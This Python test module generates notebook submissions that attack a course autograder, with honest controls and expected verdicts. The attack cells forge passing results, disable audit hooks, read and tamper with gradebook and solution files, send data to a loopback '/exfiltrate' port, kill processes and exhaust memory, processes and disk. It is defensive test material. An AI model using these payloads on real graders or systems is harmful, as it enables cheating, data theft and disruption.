"""The hostile corpus: every attack on the grader we know of, as a small Lab 01 submission, with honest
students in the same run whose scores must not move.

Each notebook is cut from the source notebook (its exercises and their tests, no lesson cells), so it
grades in seconds. Attacks are bounded: no real fork or memory bomb, no network but a loopback port
that the test itself listens on. ``python tests/hostile.py`` writes them to
``tests/hostile_corpus/`` with ``expected.json``: per file, whether it is an attack or an honest
control, the status and a reason it must get, and the score where the score is the point (``null``:
any score, because the attack is expected to be flagged rather than neutralised). The corpus is test
data: the grader never imports it.
"""

from __future__ import annotations

import ast
import builtins
import json
import sys
from pathlib import Path

import nbformat
from nbformat import NotebookNode

if __name__ == "__main__":  # python tests/hostile.py: the grader is imported from the repository root
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from autograder.assemble import strip_solution  # noqa: E402
from autograder.feedback import visible_part  # noqa: E402
from autograder.labs import nbgrader_meta, source_notebook  # noqa: E402

FOLDER = Path(__file__).resolve().parent / "hostile_corpus"
LAB = "01_tokenizers"
PORT = 48123  # the network attack's target; the test rewrites it to the port its own server listens on
PROBE = "nlpgrade-hostile-probe"  # in the command line of every process an attack leaves behind

ATTACKS: dict[str, tuple[list[str], list[str], dict]] = {
    # name: (cells before the exercises, cells after them, expectation); cells are str.format templates
    "transformer-blank": (["get_ipython().input_transformers_post.append(lambda lines: [])"], [],
                          {"score": 0, "status": "needs review", "reason": "input_transformers_post"}),
    "transformer-stealth": (['''\
def _drop_asserts(lines):
    return [] if any("assert" in line for line in lines) else lines


get_ipython().input_transformers_post.append(_drop_asserts)'''], [],
        {"score": 0, "status": "needs review", "reason": "input_transformers_post"}),
    "ast-tryexcept": (['''\
import ast


class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_Swallow())'''], [],
        {"score": 0, "status": "needs review", "reason": "ast_transformers"}),
    "custom-exc": (['''\
def _quiet(shell, etype, value, tb, tb_offset=None):
    return []


def _clear(result):
    result.error_in_exec = None


get_ipython().set_custom_exc((BaseException,), _quiet)
get_ipython().events.register("post_run_cell", _clear)'''], [],
        {"score": 0, "status": "needs review", "reason": "set_custom_exc"}),
    "displayhook": (['''\
def _partial_credit(info):
    get_ipython().displayhook(-1)


get_ipython().events.register("pre_run_cell", _partial_credit)'''], [],
        {"score": 0, "status": "needs review", "reason": "pre_run_cell"}),
    "always-equal": (["{always_equal}"], [],
                     {"score": None, "status": "needs review", "reason": "defines __eq__"}),
    "forge-runner": (['''\
import json

for name in list(globals()):
    if name.startswith("_nlpgrade_"):
        tag = "\\x1enlpgrade:" + name[len("_nlpgrade_"):] + ":"

        def _fake(k, grade_id, source, tag=tag):
            print(tag + json.dumps({{"k": k, "id": grade_id, "ok": True, "ename": "", "line": 0, "evidence": []}}))

        globals()[name] = _fake'''], [],
        {"score": 0, "status": "needs review", "reason": "uses globals"}),
    "read-files": (['''\
import os

import nlpcourse

root = nlpcourse.REPO_ROOT
for path in [root / "lab_solutions", root / "autograder", root / ".git", root / "autograder" / "gradebook.db"]:
    print(path, "exists" if path.exists() else "is not there")
found = []
for top in ["/tmp", "/run", "/home", "/root", str(root)]:
    for folder, _, files in os.walk(top):
        found += [os.path.join(folder, f) for f in files if f.endswith((".db", ".csv", ".html", ".ipynb"))]
print(len(found), "files worth stealing:", found[:20])
for path in found[:5]:
    print(path, open(path, errors="replace").read(300))'''], [],
        {"score": 0, "status": "graded", "reason": "failed"}),
    "leak-tests": (['''\
_seen = []


def _grab(info):
    _seen.append(info.raw_cell)


get_ipython().events.register("pre_run_cell", _grab)'''], ['''\
import base64
import re

print(In)
print(Out)
for raw in _seen:
    for blob in re.findall(r"'([A-Za-z0-9+/=]{{40,}})'", raw):
        print(base64.b64decode(blob).decode())'''],
        {"score": 0, "status": "needs review", "reason": "uses In"}),
    "network": (['''\
import socket
import urllib.request

PORT = {port}
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:
        conn.sendall(b"stolen: hidden tests\\n")
        print("reached the grading machine")
except OSError as exc:
    print("no network:", exc)
try:
    print(urllib.request.urlopen(f"http://127.0.0.1:{{PORT}}/exfiltrate", timeout=2).read())
except OSError as exc:
    print("no network:", exc)'''], [],
        {"score": 0, "status": "needs review", "reason": "imports socket"}),
    "tamper-files": (['''\
import nlpcourse

root = nlpcourse.REPO_ROOT
for path in [root / "autograder" / "gradebook.db", root / "autograder" / "grades.csv",
             root / "autograder" / "feedback" / "honest-partial" / "01_tokenizers" / "01_tokenizers.html",
             root / "autograder" / "submitted" / "honest-partial" / "01_tokenizers" / "01_tokenizers.ipynb",
             root / "lab_solutions" / "01_tokenizers" / "01_tokenizers.ipynb",
             root / "nlpcourse" / "__init__.py", root / "data" / "README.md"]:
    try:
        with open(path, "a") as fh:
            fh.write("\\n# tampered\\n")
        print("WROTE", path)
    except OSError as exc:
        print("refused:", path, type(exc).__name__)'''], [],
        {"score": 0, "status": "graded", "reason": "failed"}),
    "detached": (['''\
import subprocess
import sys

code = "import pathlib, time; time.sleep(4); pathlib.Path('/tmp/{probe}').write_text('still here')"
subprocess.Popen([sys.executable, "-c", code, "{probe}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("left a process behind")'''], [],
        {"score": 0, "status": "needs review", "reason": "imports subprocess"}),
    "kill-parent": (['''\
import os
import signal

print("parent", os.getppid())
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
print("still here")'''], [],
        {"score": 0, "status": "needs review", "reason": "os.kill"}),
    "slow-hook": (['''\
import time


def _slow(info):
    time.sleep(3)


get_ipython().events.register("pre_run_cell", _slow)'''], [],
        {"score": 0, "status": "needs review", "reason": "pre_run_cell hook added"}),
    "wall-clock": (["import time\n\ntime.sleep(4)"] * 20, [],
                   {"score": 0, "status": "graded", "reason": "the limit for one submission"}),
    "big-output": (['print("x" * (20 << 20))  # one 20 MB line: dropped before it reaches the grader', '''\
for i in range(200):
    print(f"{{i:04d}} " + "y" * 2000)  # 400 KB in small lines: cut at the limit per cell
print("after the flood")'''], [],
        {"score": 0, "status": "graded", "reason": "output cut"}),
    "memory-bomb": (['''\
blocks = []
for _ in range(64):
    blocks.append(bytearray(256 << 20))  # 16 GB asked for, far over the limit'''], [],
        {"score": 0, "status": "graded", "reason": "[MemoryError]"}),
    "process-bomb": (['''\
import subprocess

children = []
try:
    for _ in range(300):
        children.append(subprocess.Popen(["sh", "-c", "sleep 30", "{probe}"]))
except OSError as exc:
    print(f"stopped after {{len(children)}} processes: {{exc}}")'''], [],
        {"score": 0, "status": "needs review", "reason": "imports subprocess"}),
    "disk-fill": (['''\
try:
    with open("big.bin", "wb") as fh:
        fh.write(b"\\0" * (100 << 20))  # over the file size limit
except OSError as exc:
    print("file:", exc)
written = 0
for i in range(64):
    with open(f"/tmp/fill{{i}}.bin", "wb") as fh:  # until the private /tmp is full
        fh.write(b"\\1" * (8 << 20))
    written += 8'''], [],
        {"score": 0, "status": "graded", "reason": "[OSError]"}),
    # Round two (issue 23): the result channel, the scan's blind spots, display updates
    "output-hook": (['''\
import sys


def _rewrite(msg):
    content = msg.get("content", {{}})
    if isinstance(content.get("text"), str):
        content["text"] = content["text"].replace('"ok": false', '"ok": true')
    return msg


sys.stdout.register_hook(_rewrite)'''], [],
        {"score": 0, "status": "needs review", "reason": "output hook"}),
    "session-patch": (['''\
import sys

_cls = type(sys.stdout.session)
_send = _cls.send


def _send_forged(self, stream, msg_or_type, content=None, *args, **kwargs):
    if isinstance(content, dict) and isinstance(content.get("text"), str):
        content = dict(content, text=content["text"].replace('"ok": false', '"ok": true'))
    return _send(self, stream, msg_or_type, content, *args, **kwargs)


_cls.send = _send_forged'''], [],
        {"score": 0, "status": "needs review", "reason": "send"}),
    "runner-swap-reduce": (['''\
import functools
import json


def _helper():
    pass


_ns = functools.reduce(getattr, ["__glo" + "bals__"], _helper)
for _name in [n for n in _ns if n.startswith("_nlp" + "grade_")]:
    _tag = "\\x1enlpgrade:" + _name[len("_nlpgrade_"):] + ":"

    def _fake(k, grade_id, source, tag=_tag):
        print(tag + json.dumps({{"k": k, "id": grade_id, "ok": True, "ename": "", "line": 0, "evidence": []}}))

    _ns[_name] = _fake
_modules = functools.reduce(getattr, ["mod" + "ules"], __import__("s" + "ys"))
_modules["sys"].audit = lambda *args: None  # the grader's cells now raise nothing'''], [],
        {"score": 0, "status": "needs review", "reason": "passes getattr as a value"}),
    "barry-unparseable": (["from __future__ import barry_as_FLUFL", '''\
if 1 <> 2:
    g = globals()
    for name in [n for n in g if n.startswith("_nlpgrade_")]:
        g[name] = lambda *args: print("\\x1enlpgrade:forged")
    __import__("sys").audit = lambda *args: None'''], [],
        {"score": 0, "status": "needs review", "reason": "barry_as_FLUFL"}),
    "display-leak": (['''\
import base64
import re

from IPython.display import display, update_display

display("notes", display_id="notes")
_seen = []


def _grab(info):
    for blob in re.findall(r"'([A-Za-z0-9+/=]{{40,}})'", info.raw_cell):
        _seen.append(base64.b64decode(blob).decode())
        update_display("\\n".join(_seen), display_id="notes", raw=False)


get_ipython().events.register("pre_run_cell", _grab)'''], [],
        {"score": 0, "status": "needs review", "reason": "pre_run_cell hook added"}),
    "forge-channel": (['''\
import os
import stat

_line = "\\x1enlpgrade:" + "0" * 64 + " ('verdict', 0, 'x', True, '', 0, '', [])\\n"
for _fd in range(3, 64):  # every open regular file: the kernel log among them
    try:
        if stat.S_ISREG(os.fstat(_fd).st_mode):
            os.write(_fd, _line.encode())
    except OSError:
        pass
for _fd in os.listdir("/proc/self/fd"):
    try:
        if not stat.S_ISREG(os.fstat(int(_fd)).st_mode):
            continue
        _r = os.open(f"/proc/self/fd/{{_fd}}", os.O_RDONLY | os.O_NONBLOCK)
        print(_fd, os.read(_r, 200))
        os.close(_r)
    except OSError as exc:
        print(_fd, type(exc).__name__)'''], [],
        {"score": 0, "status": "needs review", "reason": "result channel"}),
    "raise-run": (['''\
import base64
import sys

for _k in range(64):
    sys.audit("nlpgrade.run", _k, "x", base64.b64encode(b"pass").decode())
sys.audit("nlpgrade.install")'''], [],
        {"score": 0, "status": "needs review", "reason": "verdict"}),
    "frame-walk": (['''\
import sys

_frames = []
_f = sys._getframe(0)
while _f is not None:
    _frames.append(_f)
    _f = _f.f_back
print(len(_frames), "frames")'''], [],
        {"score": 0, "status": "needs review", "reason": "sys._getframe"}),
    "fork-memory": (['''\
import os
import time

children = []
for _ in range(3):  # 3 x 900 MB: each child is under the limit for one process, together they are not
    pid = os.fork()
    if pid == 0:
        block = bytearray(900 << 20)
        block[::4096] = b"\\1" * len(block[::4096])
        time.sleep(30)
        os._exit(0)
    children.append(pid)
time.sleep(10)
print("children alive:", sum(os.waitpid(pid, os.WNOHANG)[0] == 0 for pid in children))'''], [],
        {"score": 0, "status": "needs review", "reason": "together used more than"}),
}

POOL = '''\
import multiprocessing

with multiprocessing.Pool(2) as pool:  # honest parallel work: it must run, unflagged
    print(pool.map(word_tokenize, ["a b", "c d e"]))'''


def _source() -> NotebookNode:
    return nbformat.read(source_notebook(LAB), as_version=4)


def stub(source: str) -> str:
    """A solution cell as released: each solution region replaced by nbgrader's stub."""
    out, inside = [], False
    for line in source.split("\n"):
        if "### BEGIN SOLUTION" in line:
            inside, indent = True, line[: len(line) - len(line.lstrip())]
            out += [f"{indent}# YOUR CODE HERE", f"{indent}raise NotImplementedError()"]
        elif "### END SOLUTION" in line:
            inside = False
        elif not inside:
            out.append(line)
    return "\n".join(out)


def _names(nb: NotebookNode) -> list[str]:
    """Functions and classes the exercises define."""
    names = []
    for cell in nb.cells:
        if cell.cell_type == "code" and nbgrader_meta(cell).get("solution"):
            tree = ast.parse(strip_solution(cell.source))
            names += [n.name for n in tree.body if isinstance(n, (ast.FunctionDef, ast.ClassDef))]
    return names


def skeleton(lang: str = "en", solved: tuple[str, ...] = (), before: list[str] = (), after: list[str] = (),
             opening: bool = False) -> NotebookNode:
    """A small submission: the lab's exercises (``solved`` ones filled in) and tests, with extra cells.

    ``opening``: start with the lab's own code cells that come before the first exercise (imports, data),
    except the Colab setup cell.
    """
    source = _source()
    nb = nbformat.v4.new_notebook(metadata={"kernelspec": source.metadata.get("kernelspec", {}),
                                            "nlpcourse": {"lab": LAB, "lang": lang}})
    cells = [nbformat.v4.new_code_cell(text) for text in before]
    started = False
    for cell in source.cells:
        meta = nbgrader_meta(cell)
        started = started or bool(meta.get("solution"))
        if cell.cell_type == "code" and opening and not started and not meta and cell.get("id") != "colab-setup":
            cells.append(nbformat.v4.new_code_cell(cell.source))
        if cell.cell_type != "code" or not meta.get("grade_id"):
            continue
        if meta.get("solution"):
            text = strip_solution(cell.source) if meta["grade_id"] in solved else stub(cell.source)
        else:
            text = visible_part(cell.source) if meta.get("grade") else cell.source
        cells.append(nbformat.v4.new_code_cell(text, metadata={"nbgrader": dict(meta)}))
    cells += [nbformat.v4.new_code_cell(text) for text in after]
    for i, cell in enumerate(cells):
        cell.id = f"cell-{i:03d}"
    nb.cells = cells
    return nb


def _bound_and_used(source: str) -> tuple[set[str], set[str]]:
    bound, used = set(), set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Name):
            (used if isinstance(node.ctx, ast.Load) else bound).add(node.id)
        elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
            bound.add(node.name)
        elif isinstance(node, ast.arg):
            bound.add(node.arg)
        elif isinstance(node, (ast.Import, ast.ImportFrom)):
            bound |= {alias.asname or alias.name.split(".")[0] for alias in node.names}
    return bound, used


def honest() -> tuple[list[str], float]:
    """Exercises whose tests need nothing but the lab's opening cells and the solutions (no lesson cell),
    and the points of those tests: what the honest controls solve and must score."""
    known, exercise, needs, points = set(dir(builtins)), None, {}, {}
    for cell in _source().cells:
        meta = nbgrader_meta(cell)
        if cell.cell_type != "code" or cell.get("id") == "colab-setup":
            continue
        if meta.get("solution"):
            exercise = meta["grade_id"]
            known |= _bound_and_used(strip_solution(cell.source))[0]
        elif exercise is None:
            known |= _bound_and_used(cell.source)[0]
        elif meta.get("grade"):
            bound, used = _bound_and_used(cell.source)
            needs.setdefault(exercise, set()).update(used - bound)
            points[exercise] = points.get(exercise, 0.0) + float(meta.get("points") or 0)
    solved = [e for e, names in needs.items() if names <= known]
    return solved, sum(points[e] for e in solved)


def _always_equal() -> str:
    fakes = " = ".join(_names(_source()))
    return f'''\
class _Anything:
    def __eq__(self, other):
        return True

    def __getattr__(self, name):
        return lambda *args, **kwargs: _Anything()


def _fake(*args, **kwargs):
    return _Anything()


{fakes} = _fake'''


def _copied(nb: NotebookNode) -> NotebookNode:
    """Cells copied in Jupyter (nbgrader metadata and all): a test pasted above its exercise, the first
    exercise pasted again at the end, and a cell whose nbgrader metadata lost its grade_id."""
    cells = nb.cells
    solutions = [c for c in cells if nbgrader_meta(c).get("solution")]
    test = next(c for c in cells[cells.index(solutions[1]):] if nbgrader_meta(c).get("grade"))
    broken = nbformat.v4.new_code_cell("note = 'a cell pasted from another notebook'",
                                       metadata={"nbgrader": {"solution": True, "schema_version": 3}})
    at = cells.index(solutions[0]) + 1
    cells[at:at] = [nbformat.v4.new_code_cell(test.source, metadata=dict(test.metadata)), broken]
    cells.append(nbformat.v4.new_code_cell(solutions[0].source, metadata=dict(solutions[0].metadata)))
    for i, cell in enumerate(cells):
        cell.id = f"cell-{i:03d}"
    return nb


NOISY = '''\
import sys
import warnings

import numpy as np

_word_tokenize = word_tokenize


def word_tokenize(text):
    print("debug: word_tokenize", repr(text), file=sys.stderr)
    warnings.warn("word_tokenize is being tested", UserWarning)
    np.float64(len(text)) / 0  # a library warning (RuntimeWarning from numpy), as correct code can raise
    return _word_tokenize(text)'''


def build(port: int = PORT) -> dict[str, tuple[NotebookNode, dict]]:
    """File name -> (notebook, expectation)."""
    fields = {"port": port, "probe": PROBE, "always_equal": _always_equal()}
    corpus = {}
    for name, (before, after, expect) in ATTACKS.items():
        nb = skeleton(before=[t.format(**fields) for t in before], after=[t.format(**fields) for t in after])
        corpus[f"{name}_{LAB}.ipynb"] = (nb, {"kind": "attack", **expect})
    solved, score = honest()
    solved = tuple(solved)
    partial = {"kind": "honest", "score": score, "status": "graded", "reason": "failed"}
    corpus[f"honest-partial_{LAB}.ipynb"] = (skeleton(solved=solved, opening=True), partial)
    corpus[f"honest-copied_{LAB}.ipynb"] = (_copied(skeleton(solved=solved, opening=True)),
                                            {**partial, "reason": "copied cells"})
    noisy = skeleton(solved=solved, opening=True)
    where = next(i for i, c in enumerate(noisy.cells) if nbgrader_meta(c).get("grade_id") == "word_char_tokenize")
    noisy.cells.insert(where + 1, nbformat.v4.new_code_cell(NOISY, id="noisy"))
    corpus[f"Kim Min-su_{LAB}.ipynb"] = (noisy, partial)
    pool = skeleton(solved=solved, opening=True)
    pool.cells.append(nbformat.v4.new_code_cell(POOL, id="pool"))
    corpus[f"honest-pool_{LAB}.ipynb"] = (pool, partial)
    corpus[f"김민수_{LAB}.ipynb"] = (skeleton("ko", solved=solved, opening=True), {**partial, "reason": "실패"})
    corpus[f"dup_{LAB}.ipynb"] = (skeleton(), {"kind": "honest", "score": None, "status": "skipped",
                                               "reason": "older file"})
    corpus[f"dup_{LAB} (1).ipynb"] = (skeleton(solved=solved, opening=True), {**partial, "reason": "newest of 2 files"})
    return corpus


def files(port: int = PORT) -> dict[str, tuple[bytes, dict]]:
    """The corpus as files (``port``: where the network attack knocks)."""
    return {name: ((nbformat.writes(nb) + "\n").encode(), exp) for name, (nb, exp) in build(port).items()}


def write() -> list[Path]:
    """Rewrite ``tests/hostile_corpus/`` and its ``expected.json``."""
    built = files()
    FOLDER.mkdir(exist_ok=True)
    for old in FOLDER.glob("*.ipynb"):
        if old.name not in built:
            old.unlink()
    for name, (content, _) in built.items():
        (FOLDER / name).write_bytes(content)
    expected = {name: exp for name, (_, exp) in built.items()}
    (FOLDER / "expected.json").write_text(json.dumps(expected, indent=2, sort_keys=True, ensure_ascii=False) + "\n")
    return sorted(FOLDER.glob("*.ipynb"))


if __name__ == "__main__":
    print(f"wrote {len(write())} files to {FOLDER}")
